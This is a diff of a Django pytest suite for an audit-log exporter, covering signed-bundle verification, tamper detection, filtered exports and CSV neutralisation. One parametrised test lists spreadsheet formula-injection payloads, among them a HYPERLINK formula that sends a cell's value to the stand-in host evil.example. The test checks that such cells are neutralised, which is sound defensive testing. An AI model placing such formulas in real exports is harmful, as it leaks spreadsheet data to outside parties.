@@ -18,8 +18,14 @@ from audit.exports import audit_export_begin, audit_export_to_file, neutralise
 from audit.filters import AuditFilters
 from audit.models import AuditEvent
 from audit.services import audit_event_record, change_record_sync
+from audit.signing import current_public_key_pem
 
 pytestmark = pytest.mark.django_db
+
+
+def _verify(path: str):
+    """Verify a bundle offline against the published (pinned) public key."""
+    return verify_bundle(path, public_key_pem_text=current_public_key_pem())
 
 
 def _events(n: int, **kwargs) -> list[AuditEvent]:
@@ -49,7 +55,7 @@ def test_a_bundle_of_the_whole_ledger_verifies_offline(tmp_path):
     change_record_sync(kind="promotion", source_type="promotion", source_id=1, app="payments-api", environment="prod",
                        requester_name="alice", approvers=["bob"])  # fmt: skip
     path = _bundle(tmp_path)
-    report = verify_bundle(path)
+    report = _verify(path)
     assert report.ok, report.problems
     assert report.count == 6  # five events and the audit.exported event itself
     with zipfile.ZipFile(path) as zf:
@@ -76,7 +82,7 @@ def test_editing_one_exported_line_is_detected_offline_naming_the_sequence(tmp_p
         return "".join(lines).encode()
 
     _rewrite_member(path, "events.jsonl", edit)
-    report = verify_bundle(path)
+    report = _verify(path)
     assert not report.ok
     assert report.first_problem.sequence == 4
     with pytest.raises(CommandError, match="sequence 4"):
@@ -96,7 +102,7 @@ def test_a_rehashed_forged_line_breaks_the_next_link_and_the_signature(tmp_path)
         return "".join(lines).encode()
 
     _rewrite_member(path, "events.jsonl", forge)
-    report = verify_bundle(path)
+    report = _verify(path)
     assert report.first_problem.sequence == 4
     messages = " ".join(str(p) for p in report.problems)
     assert "prev_hash" in messages and "sha256" in messages
@@ -106,7 +112,7 @@ def test_a_tampered_manifest_fails_the_detached_signature(tmp_path):
     _events(3)
     path = _bundle(tmp_path)
     _rewrite_member(path, "manifest.json", lambda data: data.replace(b'"count": 4', b'"count": 3'))
-    report = verify_bundle(path)
+    report = _verify(path)
     assert any("signature" in str(p) for p in report.problems)
 
 
@@ -119,8 +125,6 @@ def test_a_bundle_checked_against_another_published_key_fails(tmp_path):
     path = _bundle(tmp_path)
     other = public_key_pem(Ed25519PrivateKey.generate().public_key())
     assert not verify_bundle(path, public_key_pem_text=other).ok
-    from audit.signing import current_public_key_pem
-
     assert verify_bundle(path, public_key_pem_text=current_public_key_pem()).ok
 
 
@@ -129,7 +133,7 @@ def test_an_export_of_a_filtered_period_verifies(tmp_path):
     middle = timezone.now()
     _events(4, app="checkout", environment="prod")
     path = _bundle(tmp_path, since=middle.strftime("%Y-%m-%dT%H:%M:%S.%f"))
-    report = verify_bundle(path)
+    report = _verify(path)
     assert report.ok, report.problems
     with zipfile.ZipFile(path) as zf:
         manifest = json.loads(zf.read("manifest.json"))
@@ -144,7 +148,7 @@ def test_an_export_filtered_by_environment_verifies_every_event(tmp_path):
     _events(3, environment="prod")
     _events(1, environment="dev")
     path = _bundle(tmp_path, env="prod")
-    report = verify_bundle(path)
+    report = _verify(path)
     assert report.ok, report.problems
     assert report.count == 3
     with zipfile.ZipFile(path) as zf:
@@ -155,7 +159,7 @@ def test_a_period_that_ended_yesterday_excludes_today(tmp_path):
     _events(2)
     yesterday = (timezone.now() - timedelta(days=1)).strftime("%Y-%m-%d")
     path = _bundle(tmp_path, until=yesterday)
-    report = verify_bundle(path)
+    report = _verify(path)
     assert report.ok and report.count == 0
 
 
@@ -164,11 +168,11 @@ def test_a_period_that_ended_yesterday_excludes_today(tmp_path):
     ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
 )
 def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path, payload):
-    audit_event_record(action="settings.changed", target_label=payload, message=payload, app=payload)
+    audit_event_record(action="inventory.config_applied", target_label=payload, message=payload, app=payload)
     out = tmp_path / "events.csv"
     call_command("audit_export", "--format", "csv", "--out", str(out))
     rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
-    row = next(r for r in rows if r["action"] == "settings.changed")
+    row = next(r for r in rows if r["action"] == "inventory.config_applied")
     for column in ("target_label", "message", "app"):
         assert row[column] == "'" + payload
     assert neutralise("plain text") == "plain text"
@@ -211,7 +215,7 @@ def test_the_pdf_change_report_holds_the_evidence(tmp_path):
         gates=[{"name": "ci", "passed": True, "detail": "3/3"}],
     )  # fmt: skip
     audit_event_record(action="promotion.requested", target_type="promotion", target_id=9, message="asked")
-    job = audit_export_begin(fmt="pdf", filters=AuditFilters(env="prod"), scope_apps=None, system_name="test")
+    job = audit_export_begin(fmt="pdf", filters=AuditFilters(env="prod"), scope=None, system_name="test")
     out = tmp_path / "report.pdf"
     assert audit_export_to_file(job, str(out), created_by="test") == {"change_records": 1}
     assert out.read_bytes().startswith(b"%PDF")
@@ -221,7 +225,7 @@ def test_export_streams_in_keyset_batches(tmp_path):
     from audit.selectors import audit_export_events, audit_export_plan
 
     _events(25)
-    plan = audit_export_plan(filters=AuditFilters(), scope_apps=None)
+    plan = audit_export_plan(filters=AuditFilters(), scope=None)
     assert [e.sequence for e in audit_export_events(plan, batch=4)] == list(range(1, 26))
 
 
